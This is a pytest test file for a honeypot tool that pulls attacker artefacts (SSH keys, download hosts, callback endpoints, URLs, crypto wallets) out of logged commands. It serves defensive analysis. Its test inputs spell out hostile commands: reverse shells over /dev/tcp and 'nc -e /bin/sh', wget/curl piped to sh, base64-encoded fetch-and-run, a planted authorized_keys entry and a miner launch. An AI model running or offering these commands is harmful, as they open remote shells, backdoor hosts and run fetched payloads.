"""What a command names of an attacker's own."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cowrie_assets.cowrie.artefacts import (
    MOST_OF_A_KIND,
    READ_CHARACTERS,
    USED,
    Artefact,
    ArtefactKind,
    artefacts_of_command,
    urls_in,
)
from cowrie_assets.cowrie.wallets import keccak256, wallets
from cowrie_assets_tests.cpu_time import least_cpu_seconds

KEY = "AAAAC3NzaC1lZDI1NTE5AAAAIK0wmN/Cr3JXqmLW7u+g9pTh+wyqDHpSQEIQczXkVx9q"
FINGERPRINT = "SHA256:FHsTyFHNmvNpw4o7+rp+M1yqMyBF8vXSBRkZtkQ0RKY"
MONERO = "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
SUBADDRESS = "888tNkZrPN6JsEgekjMnABU4TBzc2Dt29EPAvkRxbANsAnjyPbb3iQ1YBRk1UXcdRsiKc9dhwMVgN5S9cQUiyoogDavup3H"
GENESIS = "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa"
ETHER = "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed"


def found(command: str, kind: ArtefactKind) -> list[str]:
    return [each.value for each in artefacts_of_command(command) if each.kind == kind]


def test_a_key_with_its_type_and_comment() -> None:
    command = f"cd ~ && echo \"ssh-ed25519 {KEY} mdrfckr\">>.ssh/authorized_keys; echo 'ssh-ed25519 {KEY}' > x"
    assert artefacts_of_command(command) == [
        Artefact(ArtefactKind.SSH_KEY, FINGERPRINT, "ssh-ed25519", "mdrfckr"),
    ]
    assert found(f"echo ssh-rsa {KEY} > k; echo ssh-ed25519 {KEY[:-3]} > k", ArtefactKind.SSH_KEY) == []


@pytest.mark.parametrize(
    ("command", "hosts"),
    [
        ("wget http://192.0.2.7:8080/a.sh -O- | sh", ["192.0.2.7"]),
        ("curl -s -L 'https://u:p@Evil.Example.NET/x?y=http://other.example/'", ["evil.example.net"]),
        ("busybox wget -q 198.51.100.2/b; curl -sO drop.example.org/c", ["198.51.100.2", "drop.example.org"]),
        ("tftp -g -r bins.sh 203.0.113.9; ftpget -u anonymous -p x 203.0.113.10 a a", ["203.0.113.9", "203.0.113.10"]),
        ("wget http://[2001:db8::1]/x", ["2001:db8::1"]),
        ("curl http://127.0.0.1/x http://0.0.0.0/y http://localhost:80/z http://10.0.0.300/", []),
        ("wget file.sh; curl --help; echo tftp bins.sh", []),
    ],
)
def test_hosts_that_something_is_fetched_from(command: str, hosts: list[str]) -> None:
    assert found(command, ArtefactKind.HOST) == hosts


@pytest.mark.parametrize(
    ("command", "endpoints"),
    [
        ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", ["192.0.2.1:4444"]),
        ("nc -e /bin/sh c2.example.org 99 &", ["c2.example.org:99"]),
        ("./xmrig -o stratum+tcp://Pool.Example.org:3333 -u x", ["pool.example.org:3333"]),
        ("./bot 192.0.2.9:23; ./bot 192.0.2.9:99999; ./bot 127.0.0.1:80; v1.2.3.4.5:6", ["192.0.2.9:23"]),
        ("wget http://192.0.2.7:8080/a.sh; telnet 192.0.2.8 2323", ["192.0.2.8:2323"]),
        ("ssh root@192.0.2.1:22; nc -l 4444", []),
        (
            "xmrig -o pool.example.org:3333; ./m --url=b.example.org:80 -oc.example.org:81",
            ["pool.example.org:3333", "b.example.org:80", "c.example.org:81"],
        ),
        ("./m --url tcp://d.example.org:82/; curl -o e.example.org:83 x", ["d.example.org:82"]),
    ],
)
def test_endpoints_that_are_connected_to(command: str, endpoints: list[str]) -> None:
    assert found(command, ArtefactKind.ENDPOINT) == endpoints


@pytest.mark.parametrize(
    ("command", "used"),
    [
        ("wget -qO- http://a.example.org/x|sh", ["http://a.example.org/x", "a.example.org"]),
        ("echo d2dldCBodHRwOi8vYS5leGFtcGxlLm9yZy94 | base64 -d | sh", ["http://a.example.org/x", "a.example.org"]),
        (
            "curl -so out -x http://p.example.org/ --url http://a.example.org/x",
            ["http://a.example.org/x", "a.example.org"],
        ),
        ("curl -A 'b http://a.example.org/' -H x --referer http://a.example.org/ b.example.org/x", ["b.example.org"]),
        (
            "curl --url-query u=http://a.example.org/ --url=http://b.example.org/x",
            ["http://b.example.org/x", "b.example.org"],
        ),
        ("echo http://a.example.org/x nc 192.0.2.1 99 # wget http://a.example.org/y", []),
        ("echo x > /dev/tcp/192.0.2.1/99; tftp -g -r a.sh 192.0.2.2", ["192.0.2.2", "192.0.2.1:99"]),
        (
            "H=a.example.org; export U=http://$H/x; W=/usr/bin/wget; $W -q ${U}y; U=- nc $H $P",
            ["http://a.example.org/xy", "a.example.org"],
        ),
        ("H=192.0.2.1 P=99; bash -i >& /dev/tcp/$H/$P; sh -c 'nc $H 80'", ["192.0.2.1:99", "192.0.2.1:80"]),
        ("U=http://a.example.org/x wget $U; echo $U; wget $V", []),
        (
            "python3 -c \"import os; urlopen('http://a.example.org/x')\"; perl x.pl http://b.example.org/",
            ["http://a.example.org/x", "a.example.org"],
        ),
    ],
)
def test_what_programs_are_told_to_use(command: str, used: list[str]) -> None:
    assert [each.value for each in artefacts_of_command(command) if each.subtype == USED] == used


def test_of_a_url_that_is_longer_than_is_read_the_host_is_told() -> None:
    """Half a url is one that nobody fetched: shared as an indicator it would match something else, or nothing."""
    longest, longer = (f"http://a.example.org/{'x' * length}" for length in (486, 487))
    for command in (f"wget {longest}", longest, f"curl -A {longest} x"):
        assert found(command, ArtefactKind.URL) == [longest]
    for command in (
        f"wget {longer}",
        longer,
        f"echo {longer}",
        f"U={longer}; wget $U",
        f"python -c 'get(\"{longer}\")'",
    ):
        assert (found(command, ArtefactKind.URL), found(command, ArtefactKind.HOST)) == ([], ["a.example.org"])
    assert urls_in(f"{longest} {longer}".encode()) == [longest]


def test_wallets_by_their_check_sums() -> None:
    """Vectors of Keccak, BIP 173, BIP 350 and EIP 55; Monero's donation address and a subaddress of its documents."""
    assert keccak256(b"").hex() == "c5d2460186f7233c927e7db2dcc703c0e500b653ca82273b7bfad8045d85a470"
    assert keccak256(bytes(136)) != keccak256(bytes(135))
    segwit, taproot = (
        "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4",
        "bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q4k9hcz7vqzk5jj0",
    )
    right = [
        *(("bitcoin", GENESIS), ("bitcoin", segwit), ("bitcoin", taproot)),
        *(("monero", MONERO), ("monero", SUBADDRESS), ("ethereum", ETHER)),
    ]
    text = " ".join(address for _, address in right).encode()
    assert list(wallets(text, 5)) == right
    wrong = f"{GENESIS[:-1]}b {segwit[:-1]}5 {taproot[:-1]}q {MONERO[:-1]}B {'4' + 'A' * 94} {ETHER[:-1]}D 0x{'0' * 40}"
    assert list(wallets(wrong.encode(), 5)) == []
    assert artefacts_of_command(f"xmrig -u {MONERO}.worker") == [Artefact(ArtefactKind.WALLET, MONERO, "monero")]


@given(st.text(max_size=300) | st.from_regex(r"(wget|nc|ssh-rsa AAAA|/dev/tcp/)[ -~]{0,200}"))
def test_any_command_is_read(command: str) -> None:
    assert all(each.value.isprintable() and each.value for each in artefacts_of_command(command))


@pytest.mark.parametrize("named", ["wget http://192.0.2.7/abcdef", f"ssh-ed25519 {KEY}", "nc 192.0.2.7 4444"])
def test_what_is_cut_names_nothing(named: str) -> None:
    whole, kinds = artefacts_of_command(f";{named};"), {each.kind for each in artefacts_of_command(named)}
    assert kinds
    for left in range(1, len(named) + 3):
        found = artefacts_of_command(f"{' ' * (READ_CHARACTERS - left)};{named};")
        assert found in (whole, []), left
    assert found == whole


@pytest.mark.parametrize(
    "unit",
    [
        *("wget -a ", "a.", "1.1.1.1:1 ", "http://a.b/ ", "4" + "A" * 94 + " ", "nc ", "ssh-rsa AAAA", "0x"),
        *(f"A={'nc 192.0.2.1 9' * 35};$A;", "A=1;A=$A$A;nc $A;"),
    ],
)
def test_a_long_command_is_read_in_bounded_time(unit: str) -> None:
    command = (unit * READ_CHARACTERS)[: 2 * READ_CHARACTERS]
    assert len(artefacts_of_command(command)) <= 5 * MOST_OF_A_KIND
    assert least_cpu_seconds(lambda: artefacts_of_command(command), 5) < 5
